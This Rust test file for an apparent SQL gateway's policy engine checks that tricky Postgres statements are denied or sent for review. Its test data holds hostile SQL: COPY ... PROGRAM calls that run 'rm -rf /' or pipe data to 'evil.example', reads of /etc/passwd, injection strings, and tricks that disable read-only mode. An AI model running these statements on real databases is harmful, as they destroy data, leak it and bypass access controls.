//! Tricky SQL that must not slip past the guardrails: each line asserts what the statement is
//! and what two policies decide for it (a read-only resource, and a resource with rules).

use std::path::Path;
use time::macros::datetime;
use time::OffsetDateTime;
use tollgate_policy::{classify, Caller, Classification, Decision, ResourcePolicy};

const BASE: &str = r#"[server]
tls_cert = "gw.crt"
tls_key = "gw.key"

[[resources]]
name = "orders"
kind = "postgres"
upstream = "db.internal:5432"
allow_groups = ["agents", "sre"]
"#;

const TAIL: &str = r#"[resources.tls]
ca = "ca.crt"
[resources.credentials]
user = "u"
"#;

const RULES: &str = r#"
[[resources.rules]]
name = "no ddl"
statements = ["ddl"]
action = "deny"
message = "schema changes go through migrations"

[[resources.rules]]
name = "no shell"
statements = ["copy_program", "do"]
action = "deny"

[[resources.rules]]
name = "bulk"
statements = ["delete", "update"]
where_missing = true
action = "deny"

[[resources.rules]]
name = "agent writes"
statements = ["write"]
groups = ["agents"]
action = "review"
approvers = ["sre"]
min_approvals = 2
"#;

/// `resource_keys` go in the `[[resources]]` table, `rules` after it.
fn policy(resource_keys: &str, rules: &str) -> ResourcePolicy {
    let text = format!("{BASE}{resource_keys}{TAIL}{rules}");
    let config = tollgate_config::parse(&text, Path::new("/t/tollgate.toml")).unwrap();
    ResourcePolicy::from_config(&config.resources[0]).unwrap()
}

fn read_only() -> ResourcePolicy {
    policy("read_only = true\n", "")
}

fn ruled() -> ResourcePolicy {
    policy("", RULES)
}

const AGENT_GROUPS: &[&str] = &["agents"];
const NOON: OffsetDateTime = datetime!(2026-11-25 12:00 UTC);

fn agent_groups() -> Vec<String> {
    AGENT_GROUPS.iter().map(|s| s.to_string()).collect()
}

#[derive(Debug, Clone, Copy)]
enum Want {
    Allow,
    Deny(&'static str),
    Review(&'static str),
}
use Want::*;

fn matches(d: &Decision, want: Want) -> bool {
    match (d, want) {
        (Decision::Allow { .. }, Allow) => true,
        (Decision::Deny { rule, .. }, Deny(r)) => rule == r,
        (Decision::Review { rule, .. }, Review(r)) => rule == r,
        _ => false,
    }
}

/// All kind names of all statements in `sql`.
fn kinds(sql: &str) -> Vec<&'static str> {
    match classify(sql) {
        Classification::Statements(s) => s.iter().flat_map(|s| s.kind_names()).collect(),
        Classification::Unparsable { .. } => vec!["unparsable"],
    }
}

/// (sql, kind names it must include, read-only decision, rules decision for an agent)
const CORPUS: &[(&str, &[&str], Want, Want)] = &[
    ("SELECT 1", &["select"], Allow, Allow),
    (
        "/* */ DROP TABLE t",
        &["ddl", "drop"],
        Deny("read_only"),
        Deny("no ddl"),
    ),
    (
        "/* DROP */ SELECT 1 -- ; DROP TABLE t",
        &["select"],
        Allow,
        Allow,
    ),
    (
        "DrOp TaBlE \"Weird\"\"Name\"",
        &["ddl", "drop"],
        Deny("read_only"),
        Deny("no ddl"),
    ),
    ("SELECT ';DROP TABLE t'", &["select"], Allow, Allow),
    ("SELECT $$; DROP TABLE t; $$", &["select"], Allow, Allow),
    (
        "SELECT 1; DROP TABLE t",
        &["select", "drop"],
        Deny("read_only"),
        Deny("no ddl"),
    ),
    (
        "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
        &["select", "delete"],
        Deny("read_only"),
        Deny("bulk"),
    ),
    (
        "WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d",
        &["select", "delete"],
        Deny("read_only"),
        Review("agent writes"),
    ),
    (
        "WITH RECURSIVE r AS (SELECT 1) UPDATE t SET a = 1 FROM r",
        &["update"],
        Deny("read_only"),
        Deny("bulk"),
    ),
    (
        "EXPLAIN (ANALYZE) DELETE FROM t",
        &["explain", "delete"],
        Deny("read_only"),
        Deny("bulk"),
    ),
    (
        "explain analyze delete from t where id = 1",
        &["explain", "delete"],
        Deny("read_only"),
        Review("agent writes"),
    ),
    (
        "EXPLAIN (ANALYZE on, BUFFERS) UPDATE t SET a = 1",
        &["explain", "update"],
        Deny("read_only"),
        Deny("bulk"),
    ),
    ("EXPLAIN DELETE FROM t", &["explain"], Allow, Allow),
    (
        "EXPLAIN (ANALYZE false) DELETE FROM t",
        &["explain"],
        Allow,
        Allow,
    ),
    (
        "PREPARE x AS DELETE FROM t; EXECUTE x",
        &["prepare", "execute"],
        Deny("read_only"),
        Deny("bulk"),
    ),
    (
        "DO $$BEGIN DELETE FROM t WHERE id = 1; END$$",
        &["do"],
        Deny("read_only"),
        Deny("no shell"),
    ),
    (
        "do language plpgsql 'begin perform 1; end'",
        &["do"],
        Deny("read_only"),
        Deny("no shell"),
    ),
    (
        "COPY t FROM PROGRAM 'rm -rf /'",
        &["copy", "copy_from", "copy_program"],
        Deny("read_only"),
        Deny("no shell"),
    ),
    (
        "copy t to program 'curl -d @- evil.example'",
        &["copy_to", "copy_program"],
        Deny("read_only"),
        Deny("no shell"),
    ),
    ("COPY t TO STDOUT", &["copy", "copy_to"], Allow, Allow),
    (
        "COPY t FROM STDIN",
        &["copy_from"],
        Deny("read_only"),
        Review("agent writes"),
    ),
    (
        "COPY (DELETE FROM t RETURNING *) TO STDOUT",
        &["copy_to", "delete"],
        Deny("read_only"),
        Deny("bulk"),
    ),
    (
        "SELECT pg_terminate_backend(123)",
        &["select"],
        Deny("read_only"),
        Review("agent writes"),
    ),
    (
        "SELECT * FROM t LIMIT (SELECT pg_cancel_backend(1)::int)",
        &["select"],
        Deny("read_only"),
        Review("agent writes"),
    ),
    (
        "SELECT * FROM generate_series(1, PG_TERMINATE_BACKEND(1)::int)",
        &["select"],
        Deny("read_only"),
        Review("agent writes"),
    ),
    (
        "VALUES (pg_advisory_lock(1))",
        &["select"],
        Deny("read_only"),
        Review("agent writes"),
    ),
    (
        "SELECT lo_import('/etc/passwd')",
        &["select"],
        Deny("read_only"),
        Review("agent writes"),
    ),
    (
        "SELECT pg_catalog.set_config('default_transaction_read_only', 'off', false)",
        &["select"],
        Deny("read_only"),
        Review("agent writes"),
    ),
    (
        "SELECT nextval('s')",
        &["select"],
        Deny("read_only"),
        Review("agent writes"),
    ),
    (
        "SELECT dblink_exec('host=x', 'DROP TABLE t')",
        &["select"],
        Deny("read_only"),
        Review("agent writes"),
    ),
    (
        "SELECT pg_read_file('/etc/passwd')",
        &["select"],
        Deny("read_only"),
        Review("agent writes"),
    ),
    (
        "SELECT count(*), now() FROM t WHERE id = $1",
        &["select"],
        Allow,
        Allow,
    ),
    (
        "CREATE TABLE t2 AS SELECT * FROM t",
        &["ddl", "create"],
        Deny("read_only"),
        Deny("no ddl"),
    ),
    (
        "SELECT * INTO t2 FROM t",
        &["select"],
        Deny("read_only"),
        Review("agent writes"),
    ),
    (
        "CREATE MATERIALIZED VIEW mv AS SELECT 1",
        &["ddl", "create"],
        Deny("read_only"),
        Deny("no ddl"),
    ),
    (
        "TRUNCATE t",
        &["ddl", "truncate"],
        Deny("read_only"),
        Deny("no ddl"),
    ),
    (
        "ALTER TABLE t ADD COLUMN c int",
        &["ddl", "alter"],
        Deny("read_only"),
        Deny("no ddl"),
    ),
    (
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'DELETE FROM t RETURNING 1'",
        &["ddl", "create"],
        Deny("read_only"),
        Deny("no ddl"),
    ),
    (
        "UPDATE t SET a = 1",
        &["update"],
        Deny("read_only"),
        Deny("bulk"),
    ),
    (
        "update T set a = 1 where id = 2",
        &["update"],
        Deny("read_only"),
        Review("agent writes"),
    ),
    (
        "DELETE FROM \"Sales\".\"Orders\" USING x WHERE x.id = 1",
        &["delete"],
        Deny("read_only"),
        Review("agent writes"),
    ),
    (
        "INSERT INTO t SELECT * FROM s ON CONFLICT DO NOTHING",
        &["insert"],
        Deny("read_only"),
        Review("agent writes"),
    ),
    (
        "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
        &["merge"],
        Deny("read_only"),
        Review("agent writes"),
    ),
    (
        "GRANT ALL ON t TO public",
        &["grant"],
        Deny("read_only"),
        Review("agent writes"),
    ),
    (
        "REVOKE SELECT ON t FROM bob",
        &["revoke"],
        Deny("read_only"),
        Review("agent writes"),
    ),
    (
        "CALL do_things()",
        &["call"],
        Deny("read_only"),
        Review("agent writes"),
    ),
    (
        "SET default_transaction_read_only = off",
        &["set"],
        Deny("read_only"),
        Review("agent writes"),
    ),
    (
        "SET LOCAL default_transaction_read_only TO 'false'",
        &["set"],
        Deny("read_only"),
        Review("agent writes"),
    ),
    (
        "SET transaction_read_only TO DEFAULT",
        &["set"],
        Deny("read_only"),
        Review("agent writes"),
    ),
    ("SET transaction_read_only = on", &["set"], Allow, Allow),
    (
        "SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE",
        &["set"],
        Deny("read_only"),
        Review("agent writes"),
    ),
    (
        "SET TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ WRITE",
        &["set"],
        Deny("read_only"),
        Review("agent writes"),
    ),
    ("SET TRANSACTION READ ONLY", &["set"], Allow, Allow),
    (
        "BEGIN READ WRITE",
        &["transaction", "begin"],
        Deny("read_only"),
        Review("agent writes"),
    ),
    (
        "START TRANSACTION ISOLATION LEVEL REPEATABLE READ, READ WRITE",
        &["begin"],
        Deny("read_only"),
        Review("agent writes"),
    ),
    (
        "BEGIN; SELECT 1; COMMIT",
        &["begin", "select", "commit"],
        Allow,
        Allow,
    ),
    (
        "RESET default_transaction_read_only",
        &["reset"],
        Deny("read_only"),
        Review("agent writes"),
    ),
    (
        "RESET ALL",
        &["reset"],
        Deny("read_only"),
        Review("agent writes"),
    ),
    (
        "DISCARD ALL",
        &["discard"],
        Deny("read_only"),
        Review("agent writes"),
    ),
    ("SET search_path = public", &["set"], Allow, Allow),
    // The gateway parses with standard_conforming_strings on and UTF8: a client must not change
    // how the server reads strings, or 'a\' , ' ; DROP TABLE t ; --' hides a DROP from it.
    (
        "SET standard_conforming_strings = off",
        &["set"],
        Deny("sql_safety"),
        Deny("sql_safety"),
    ),
    (
        "SET standard_conforming_strings = on",
        &["set"],
        Allow,
        Allow,
    ),
    (
        "SET NAMES 'SJIS'",
        &["set"],
        Deny("sql_safety"),
        Deny("sql_safety"),
    ),
    ("SET client_encoding = 'UTF8'", &["set"], Allow, Allow),
    (
        "SELECT set_config('standard_conforming_strings', 'off', false)",
        &["select"],
        Deny("sql_safety"),
        Deny("sql_safety"),
    ),
    (
        "SELECT set_config(lower('STANDARD_CONFORMING_STRINGS'), 'off', false)",
        &["select"],
        Deny("sql_safety"),
        Deny("sql_safety"),
    ),
    (
        "SELECT set_config('application_name', 'x', false)",
        &["select"],
        Deny("read_only"),
        Review("agent writes"),
    ),
    ("SHOW transaction_read_only", &["show"], Allow, Allow),
    ("LISTEN jobs", &["listen"], Allow, Allow),
    (
        "NOTIFY jobs, 'x'",
        &["notify"],
        Deny("read_only"),
        Review("agent writes"),
    ),
    (
        "VACUUM t",
        &["vacuum"],
        Deny("read_only"),
        Review("agent writes"),
    ),
    (
        "REFRESH MATERIALIZED VIEW mv",
        &["refresh"],
        Deny("read_only"),
        Review("agent writes"),
    ),
    (
        "SELEC 1",
        &["unparsable"],
        Deny("unparsable"),
        Deny("unparsable"),
    ),
    (
        "SELECT 1\0; DROP TABLE t",
        &["unparsable"],
        Deny("unparsable"),
        Deny("unparsable"),
    ),
];

#[test]
fn corpus() {
    assert!(CORPUS.len() >= 40);
    let (ro, rules) = (read_only(), ruled());
    let groups = agent_groups();
    let who = Caller {
        subject: "agent-7",
        groups: &groups,
    };
    let mut failures = Vec::new();
    for (sql, want_kinds, want_ro, want_rules) in CORPUS {
        let got = kinds(sql);
        if let Some(k) = want_kinds.iter().find(|k| !got.contains(k)) {
            failures.push(format!("{sql:?}: kind {k:?} missing from {got:?}"));
        }
        let d = ro.session().decide_query(sql, &who, NOON);
        if !matches(&d, *want_ro) {
            failures.push(format!("{sql:?}: read-only: want {want_ro:?}, got {d:?}"));
        }
        let d = rules.session().decide_query(sql, &who, NOON);
        if !matches(&d, *want_rules) {
            failures.push(format!("{sql:?}: rules: want {want_rules:?}, got {d:?}"));
        }
    }
    assert!(
        failures.is_empty(),
        "{} failures:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

#[test]
fn tables_and_functions_are_reported_as_written() {
    let c = classify("DrOp TaBlE \"Weird\"\"Name\", public.orders");
    assert_eq!(
        c.statements()[0].tables,
        vec!["Weird\"Name", "public.orders"]
    );
    let c = classify(
        "DELETE FROM \"Sales\".\"Orders\" o USING x WHERE o.id = x.id AND lower(x.n) = 'a'",
    );
    assert_eq!(c.statements()[0].tables, vec!["Sales.Orders", "x"]);
    assert_eq!(c.statements()[0].functions, vec!["lower"]);
    assert!(!c.statements()[0].where_missing);
    let c = classify("SELECT * INTO archive.t2 FROM t");
    assert_eq!(c.statements()[0].tables, vec!["archive.t2", "t"]);
}

#[test]
fn prepared_statements_are_judged_when_executed() {
    let rules = ruled();
    let groups = agent_groups();
    let who = Caller {
        subject: "agent-7",
        groups: &groups,
    };
    let mut s = rules.session();
    // PREPARE itself runs nothing.
    assert!(matches(
        &s.decide_query("PREPARE p AS DELETE FROM t WHERE id = $1", &who, NOON),
        Allow
    ));
    assert!(matches(
        &s.decide_query("EXECUTE p(1)", &who, NOON),
        Review("agent writes")
    ));
    assert!(matches(
        &s.decide_query("EXPLAIN ANALYZE EXECUTE p(1)", &who, NOON),
        Review("agent writes")
    ));
    assert!(matches(
        &s.decide_query("EXPLAIN EXECUTE p(1)", &who, NOON),
        Allow
    ));
    // Preparing the same name again (the upstream refuses it) does not launder it.
    assert!(matches(
        &s.decide_query("PREPARE p AS SELECT 1", &who, NOON),
        Allow
    ));
    assert!(matches(
        &s.decide_query("EXECUTE p", &who, NOON),
        Review("agent writes")
    ));
    // A DEALLOCATE is applied only when the adapter confirms it ran.
    s.decide_query("DEALLOCATE p", &who, NOON);
    assert!(matches(
        &s.decide_query("EXECUTE p", &who, NOON),
        Review("agent writes")
    ));
    s.deallocated(Some("p"));
    assert!(matches(
        &s.decide_query("EXECUTE p", &who, NOON),
        Deny("unparsable")
    ));
    // Unknown names are not trusted.
    assert!(matches(
        &s.decide_execute("never", &who, NOON),
        Deny("unparsable")
    ));
    // A denied PREPARE is not remembered as anything harmless either.
    let d = s.decide_query("PREPARE q AS UPDATE t SET a = 1; DROP TABLE t", &who, NOON);
    assert!(matches(&d, Deny("no ddl")), "{d:?}");

    // Protocol level: Parse remembers, Bind/Execute decides, Close forgets.
    s.parse("s1", "DELETE FROM t");
    s.parse("s2", "SELECT abalance FROM pgbench_accounts WHERE aid = $1");
    assert!(matches(&s.decide_execute("s1", &who, NOON), Deny("bulk")));
    assert!(matches(&s.decide_execute("s2", &who, NOON), Allow));
    // SQL EXECUTE of a protocol-prepared name: one namespace.
    assert!(matches(
        &s.decide_query("EXECUTE s1", &who, NOON),
        Deny("bulk")
    ));
    // The unnamed statement is replaced by each Parse.
    s.parse("", "DROP TABLE t");
    assert!(matches(&s.decide_execute("", &who, NOON), Deny("no ddl")));
    s.parse("", "SELECT 1");
    assert!(matches(&s.decide_execute("", &who, NOON), Allow));
    s.parse("", "SELEC 1");
    assert!(matches(
        &s.decide_execute("", &who, NOON),
        Deny("unparsable")
    ));
    // A protocol-level Parse of SQL EXECUTE runs what that name holds; cycles fail closed.
    s.parse("via", "EXECUTE s1");
    assert!(matches(&s.decide_execute("via", &who, NOON), Deny("bulk")));
    s.parse("loop_a", "EXECUTE loop_b");
    s.parse("loop_b", "EXECUTE loop_a");
    assert!(matches(
        &s.decide_execute("loop_a", &who, NOON),
        Deny("unparsable")
    ));
    // A protocol-level Parse of SQL PREPARE: the name it prepares is known from then on.
    s.parse("", "PREPARE inner_q AS DELETE FROM t");
    assert!(matches(
        &s.decide_query("EXECUTE inner_q", &who, NOON),
        Deny("bulk")
    ));
    s.close("s1");
    assert!(matches(
        &s.decide_execute("s1", &who, NOON),
        Deny("unparsable")
    ));
}

#[test]
fn read_only_denial_says_so_and_cannot_be_lifted() {
    let ro = read_only();
    let groups = vec!["sre".to_string()];
    let who = Caller {
        subject: "alice",
        groups: &groups,
    };
    let mut s = ro.session();
    match s.decide_query("drop table t", &who, NOON) {
        Decision::Deny { rule, message } => {
            assert_eq!(rule, "read_only");
            assert_eq!(
                message,
                "resource \"orders\" is read-only: DROP is not allowed (rule \"read_only\")"
            );
        }
        d => panic!("{d:?}"),
    }
    match s.decide_query("SELECT 1, pg_catalog.pg_terminate_backend(7)", &who, NOON) {
        Decision::Deny { message, .. } => assert_eq!(
            message,
            "resource \"orders\" is read-only: calling pg_catalog.pg_terminate_backend() is not allowed (rule \"read_only\")"
        ),
        d => panic!("{d:?}"),
    }
    // An allow rule does not open a read-only resource.
    let open = policy(
        "read_only = true\n",
        "[[resources.rules]]\nstatements = [\"delete\"]\naction = \"allow\"\n",
    );
    let d = open
        .session()
        .decide_query("DELETE FROM t WHERE id = 1", &who, NOON);
    assert!(matches(&d, Deny("read_only")), "{d:?}");
    // Unparsable statements cannot be shown to be reads, even with unparsable = "allow".
    let lax = policy("read_only = true\nunparsable = \"allow\"\n", "");
    assert!(matches(
        &lax.session().decide_query("SELEC 1", &who, NOON),
        Deny("unparsable")
    ));
    let lax = policy("unparsable = \"allow\"\n", "");
    assert!(matches(
        &lax.session().decide_query("SELEC 1", &who, NOON),
        Allow
    ));
    // Extra writing functions from config.
    let custom = policy(
        "read_only = true\nwriting_functions = [\"audit.log_*\"]\n",
        "",
    );
    assert!(matches(
        &custom
            .session()
            .decide_query("SELECT audit.log_event('x')", &who, NOON),
        Deny("read_only")
    ));
    assert!(matches(
        &custom
            .session()
            .decide_query("SELECT audit.read_event('x')", &who, NOON),
        Allow
    ));
}
